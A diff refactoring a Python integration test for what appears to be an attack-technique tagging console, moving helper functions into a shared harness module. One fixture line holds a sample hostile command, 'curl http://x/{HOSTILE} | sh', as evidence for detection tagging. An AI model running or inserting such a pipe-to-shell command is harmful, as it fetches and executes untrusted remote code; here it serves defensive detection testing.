@@ -15,9 +15,8 @@ import asyncio
 import contextlib
 import json
 import re
-import time
 import uuid
-from collections.abc import AsyncIterator, Callable
+from collections.abc import AsyncIterator
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -28,8 +27,10 @@ import pytest
 from nats.aio.client import Client
 from starlette.applications import Starlette
 
+from harness.bus_messages import tag_data, tagged_message
 from harness.master import install, master_role_settings, running_master
 from harness.nats_roles import role_nats
+from harness.waiting import eventually
 from ttp_console.app import console_templates, create_app
 from ttp_console.bootstrap import ConsoleServer, bind_socket, console_url, server_config
 from ttp_console.context import ConsoleContext
@@ -39,8 +40,7 @@ from ttp_console.settings import ConsoleSettings
 from ttp_console.tag_feed import TagFeed
 from ttp_console.tag_store import TagStore
 from ttp_core.attack.catalogue import load_catalogue
-from ttp_core.contract import subjects
-from ttp_core.contract.payloads import EventTagged, TagData, encode, envelope, worker_source
+from ttp_core.contract.payloads import TagData
 from ttp_runtime.control_client import ControlClient
 from ttp_runtime.nats import MSG_ID_HEADER, ensure_streams
 
@@ -80,14 +80,6 @@ class World:
             cookie_jar=aiohttp.CookieJar(unsafe=True),
             headers={"X-Forwarded-User": user},
         )
-
-
-async def eventually(check: Callable[[], Any], what: str) -> None:
-    deadline = time.monotonic() + TIMEOUT_S
-    while not check():
-        if time.monotonic() > deadline:
-            pytest.fail(f"timed out waiting for {what}")
-        await asyncio.sleep(0.05)
 
 
 @contextlib.asynccontextmanager
@@ -170,34 +162,22 @@ async def world(database_url: str, tmp_path: Path) -> AsyncIterator[World]:
 def tag(
     technique: str, sub: str | None, rule_id: str = "R0019", confidence: float = 0.85
 ) -> TagData:
-    return TagData(
-        uuid=str(uuid.uuid4()),
+    return tag_data(
+        technique,
+        sub,
         rule_id=rule_id,
-        rule_version=1,
-        tactic="TA0002",
-        technique_id=technique,
-        sub_technique_id=sub,
         confidence=confidence,
         evidence={"command_text": f"curl http://x/{HOSTILE} | sh"},
-        attack_version="18.1",
-        mitre_url="https://attack.mitre.org/techniques/T1059/004/",
     )
 
 
 async def publish_tags(
     nc: Client, *tags: TagData, attacker: str = "attacker-7", kind: str = "command"
 ) -> None:
-    data = EventTagged(
-        source_kind=kind,
-        source_id=f"evt-{uuid.uuid4().hex[:8]}",
-        attacker_uuid=attacker,
-        revision=1,
-        tags=list(tags),
+    subject, message = tagged_message(
+        f"evt-{uuid.uuid4().hex[:8]}", tags, kind=kind, attacker_uuid=attacker
     )
-    message = encode(envelope(data, source=worker_source("w1"), subject=data.source_id))
-    await nc.jetstream().publish(
-        subjects.tagged(kind), message, headers={MSG_ID_HEADER: str(uuid.uuid4())}
-    )
+    await nc.jetstream().publish(subject, message, headers={MSG_ID_HEADER: str(uuid.uuid4())})
 
 
 async def get(http: aiohttp.ClientSession, path: str, status: int = 200) -> str:
